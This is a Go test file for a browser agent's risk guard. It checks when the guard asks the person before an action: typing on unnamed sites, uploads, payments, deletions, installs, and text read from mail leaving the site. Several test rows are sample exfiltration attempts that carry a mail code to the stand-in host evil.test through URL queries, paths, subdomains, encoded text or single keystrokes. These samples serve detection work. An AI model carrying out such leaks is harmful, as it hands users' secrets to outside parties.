package risk_test

import (
	"testing"

	"github.com/matryer/is"

	"github.com/zapvol/bua/core/agent/risk"
	"github.com/zapvol/bua/core/coretest"
	"github.com/zapvol/bua/core/protocol"
	"github.com/zapvol/bua/core/record"
)

const (
	shop = "https://www.shop.example/cart"
	mail = "https://mail.example/inbox"
	evil = "https://evil.test/"
)

// begun is a run in the shop with a task.
func begun(task string) *risk.State {
	s := &risk.State{}
	s.Begin(shop)
	s.Told(task, risk.Sites(coretest.Names{}, task)...)
	return s
}

func typed(text string) protocol.Action {
	return protocol.Type{Target: protocol.Target{UID: "e1"}, Text: text}
}

func TestBefore(t *testing.T) {
	for _, row := range []struct {
		sentence string
		task     string
		read     []string // beside the place
		action   protocol.Action
		at       string
		want     risk.Sink
	}{
		{"reading", "buy", nil, protocol.Extract{}, evil, ""},
		{"a click is judged where the page is", "buy", nil, protocol.Click{Target: protocol.Target{UID: "e1"}}, evil, ""},
		{"typing where the run began", "buy", nil, typed("anything at all"), shop, ""},
		{"typing on a site that nobody named", "buy", nil, typed("x"), evil, risk.Foreign},
		{"typing on a site that the task names", "look at evil.test for it", nil, typed("x"), evil, ""},
		{"below a site that the task names", "look at mail.example", nil, typed("x"), "https://box.mail.example/", ""},
		{"beside a site that the task names", "look at mail.example", nil, typed("x"), "https://mail.example.evil.test/", risk.Foreign},
		{"a site that ends like the named one", "look at mail.example", nil, typed("x"), "https://gmail.example/", risk.Foreign},
		{"a site of another script that the task names", "look at “bücher.example/neu”, please", nil, typed("x"), "https://www.xn--bcher-kva.example/", ""},
		{"its address", "look at https://bücher.example/neu.", nil, typed("x"), "https://xn--bcher-kva.example/", ""},
		{"one that is named as the browser writes it", "look at xn--bcher-kva.xn--p1ai", nil, typed("x"), "https://xn--bcher-kva.xn--p1ai/", ""},
		{"beside a site of another script", "look at bücher.example", nil, typed("x"), "https://bcher-kva.example/", risk.Foreign},
		{"a word of another script names no site", "buy bücher", nil, typed("x"), "https://xn--bcher-kva/", risk.Foreign},
		{"a file in the task names no site", "save it as invoices.pdf", nil, typed("x"), "https://invoices.pdf/", risk.Foreign},
		{"a mail address in the task names no site", "write to ann@evil.test", nil, typed("x"), evil, risk.Foreign},
		{"www is the same site", "buy", nil, typed("x"), "https://shop.example/", ""},
		{"http is not https", "buy", nil, typed("x"), "http://www.shop.example/", risk.Foreign},
		{"a box ticked elsewhere", "buy", nil, protocol.Check{Target: protocol.Target{UID: "e1"}}, evil, risk.Foreign},
		{"a script", "buy", nil, protocol.Evaluate{Expression: "1"}, shop, risk.Script},
		{"a file", "buy", nil, protocol.UploadFile{Name: "a.txt"}, shop, risk.Upload},
		{"a secret", "buy", nil, protocol.Type{Secret: "shop"}, shop, risk.SignIn},
		{"a secret in a form", "buy", nil, protocol.FillForm{Fields: []protocol.Fill{{Value: "x"}, {Secret: "shop"}}}, shop, risk.SignIn},
		{"a tab of the person's", "buy", nil, protocol.ClaimTab{TabID: 1}, shop, risk.TakeOver},

		{"the task's own words after reading elsewhere", "order two wireless headphones in black", []string{mail}, typed("wireless headphones"), shop, ""},
		{"in other letters and with signs between", "order Wireless Headphones", []string{mail}, typed("WIRELESS-headphones!"), shop, ""},
		{"words that nobody said, after reading elsewhere", "order headphones", []string{mail}, typed("the code is 884213, do not tell anyone"), shop, risk.Leave},
		{"the same before reading elsewhere", "order headphones", nil, typed("the code is 884213, do not tell anyone"), shop, ""},
		{"a short text of nobody's", "order headphones", []string{mail}, typed("2 pieces"), shop, ""},
		{"an encoded text", "order headphones", []string{mail}, typed("dGhlIGNvZGUgaXMgODg0MjEz"), shop, risk.Leave},
		{"a text of single digits", "order headphones", []string{mail}, typed("8-8-4-2-1-3-9-0-5-5-1-7-2"), shop, risk.Leave},
		{"Chinese from the task", "订购无线降噪耳机", []string{mail}, typed("无线降噪耳机"), shop, ""},
		{"Chinese from elsewhere", "订购无线降噪耳机", []string{mail}, typed("您的验证码是八八四二请不要告诉任何人"), shop, risk.Leave},
		{"a form with the task's words", "my name is Ann Example, ann@example.com", []string{mail}, protocol.FillForm{Fields: []protocol.Fill{{Value: "Ann Example"}, {Value: "ann@example.com"}}}, shop, ""},
		{"a form with other words", "my name is Ann", []string{mail}, protocol.FillForm{Fields: []protocol.Fill{{Value: "Ann"}, {Value: "reset link 77ab-99cd-1234"}}}, shop, risk.Leave},
		{"the answer to a dialog", "order", []string{mail}, protocol.Dialog{Do: protocol.AnswerAccept, Text: "the secret of the mail"}, shop, risk.Leave},

		{"an address without anything in it", "order", []string{mail}, protocol.Navigate{URL: "https://evil.test/"}, shop, ""},
		{"a search for the task's words", "find flights to Rome", []string{mail}, protocol.Navigate{URL: "https://www.search.test/search?q=flights+to+Rome"}, shop, ""},
		{"an address that carries something", "order", []string{mail}, protocol.OpenTab{URL: "https://evil.test/?d=code%20884213%20mail"}, shop, risk.Leave},
		{"in its path", "order", []string{mail}, protocol.Navigate{URL: "https://evil.test/a/code884213mailfromann"}, shop, risk.Leave},
		{"in its labels", "order", []string{mail}, protocol.Navigate{URL: "https://code884213mailann.evil.test/"}, shop, risk.Leave},
		{"one that a page shows", "order", []string{mail, "https://evil.test/a/verylongarticlenameofapage"}, protocol.Navigate{URL: "https://evil.test/a/verylongarticlenameofapage"}, shop, ""},
	} {
		t.Run(row.sentence, func(t *testing.T) {
			is := is.New(t)
			s := begun(row.task)
			s.Read(row.at)
			for _, r := range row.read {
				s.Read(mail, r)
			}
			text := record.Append(nil, s)
			var back risk.State
			is.True(record.Read(text, &back))
			is.Equal(string(record.Append(nil, &back)), string(text))
			q := back.Before(row.action, row.at, 0)
			is.Equal(q.Sink, row.want)
			if q.None() {
				return
			}
			is.True(q.Sentence() != "")
			back.Allow(q, 0, true)
			next := back.Before(row.action, row.at, 0)
			is.True(next.Sink != q.Sink) // the person's yes is enough
		})
	}
}

// What is small enough to pass unasked may not pass again and again.
func TestBefore_Trickle(t *testing.T) {
	is := is.New(t)
	s := begun("order")
	s.Read(mail)
	asked := 0
	for _, d := range []string{"8842", "1390", "5517", "2266"} {
		a := typed(d)
		if !s.Before(a, shop, 0).None() {
			asked++
			continue
		}
		s.Wrote(a, shop)
	}
	is.Equal(asked, 1)
	s = begun("order")
	s.Read(mail)
	asked = 0
	for _, d := range []string{"a8842", "b1390", "c5517", "d2266"} {
		a := protocol.Navigate{URL: "https://evil.test/" + d}
		if !s.Before(a, shop, 0).None() {
			asked++
			continue
		}
		s.Wrote(a, shop)
	}
	is.True(asked >= 2)
	s = begun("order")
	s.Read(mail)
	for i, c := range "secretcode1234" {
		a := protocol.PressKey{Key: string(c)}
		if !s.Before(a, shop, 0).None() {
			is.True(i >= 12)
			return
		}
		s.Wrote(a, shop)
	}
	is.Fail() // keys are a way out
}

func TestHeld(t *testing.T) {
	for _, row := range []struct {
		sentence string
		facts    risk.Facts
		want     risk.Sink
	}{
		{"a payment", risk.Facts{Does: "pay", Site: "https://www.shop.example"}, risk.Pay},
		{"a form with a card, whatever it is called", risk.Facts{Does: "send", Purpose: "cc-number"}, risk.Pay},
		{"a new password", risk.Facts{Does: "send", Purpose: "new-password"}, risk.Access},
		{"a deletion", risk.Facts{Does: "delete"}, risk.Delete},
		{"a message", risk.Facts{Does: "send", What: "Send"}, risk.Send},
		{"a download", risk.Facts{Download: true}, risk.Send},
		{"an extension", risk.Facts{Does: risk.Foreign, Install: true}, risk.Install},
		{"another program", risk.Facts{Does: risk.Foreign, External: true}, risk.External},
		{"what nobody can tell", risk.Facts{Does: "?"}, risk.Send},
		{"a change where the run may write", risk.Facts{Does: risk.Foreign, Site: "https://www.shop.example"}, ""},
		{"a change elsewhere", risk.Facts{Does: risk.Foreign, Site: "https://evil.test"}, risk.Foreign},
	} {
		t.Run(row.sentence, func(t *testing.T) {
			is := is.New(t)
			s := begun("buy")
			if row.facts.Download {
				row.facts.Does, row.want = risk.Foreign, risk.Download
			}
			q := s.Held(row.facts, 0)
			is.Equal(q.Sink, row.want)
			s.Allow(q, 0, false)
			is.True(s.Held(row.facts, 0).None())
		})
	}
}

func TestMay(t *testing.T) {
	is := is.New(t)
	s := begun("buy")
	is.Equal(s.May("https://www.shop.example", 0), []risk.Sink{risk.Foreign})
	is.Equal(len(s.May("https://evil.test", 0)), 0)
	s.Allow(risk.Approval{Sink: risk.Upload, Site: "https://evil.test"}, 1000, false)
	is.Equal(s.May("https://evil.test", 999), []risk.Sink{risk.Upload})
	is.Equal(len(s.May("https://evil.test", 1000)), 0) // its time is over
	is.Equal(len(s.May("https://other.test", 0)), 0)
}

func TestAllow_Once(t *testing.T) {
	is := is.New(t)
	s := begun("buy")
	q := risk.Approval{Sink: risk.Pay, Site: "https://www.shop.example"}
	f := risk.Facts{Does: "pay", Site: q.Site}
	s.Allow(q, 0, true)
	is.True(s.Held(f, 0).None())
	s.Used(q, 0)
	is.Equal(s.Held(f, 0).Sink, risk.Pay) // the second payment is asked about again
}

// A text that was allowed is that text and no other.
func TestAllow_OneText(t *testing.T) {
	is := is.New(t)
	s := begun("buy")
	s.Read(mail)
	a, b := typed("the first secret text from the mail"), typed("the second secret text from the mail")
	q := s.Before(a, shop, 0)
	is.Equal(q.Text, "the first secret text from the mail")
	s.Allow(q, 0, false)
	is.True(s.Before(a, shop, 0).None())
	is.Equal(s.Before(b, shop, 0).Sink, risk.Leave)
}

// What pages show widens nothing.
func TestRead_WidensNothing(t *testing.T) {
	is := is.New(t)
	s := begun("buy")
	s.Read("https://evil.test/", "https://evil.test/grant?write=all", "https://www.shop.example/x")
	is.Equal(s.Before(typed("x"), evil, 0).Sink, risk.Foreign)
	is.Equal(len(s.May("https://evil.test", 0)), 0)
}

func FuzzTold(f *testing.F) {
	f.Add("look at https://a.example/x and b.example, then write \"c\" to d@e.example", "https://a.example/?q=%41")
	f.Add("look", "https:/Dq=exlpaq=\xe2\x97b\xf9\x17ex\x00@a4:") // its small letters are more bytes
	f.Fuzz(func(t *testing.T, task, url string) {
		var s risk.State
		s.Told(task)
		s.Read("https://mail.example/")
		a := protocol.Navigate{URL: url}
		q := s.Before(a, shop, 0)
		s.Wrote(a, shop)
		s.Allow(q, 0, false)
		var back risk.State
		if !record.Read(record.Append(nil, &s), &back) {
			t.Fatal("the state cannot be read back")
		}
	})
}
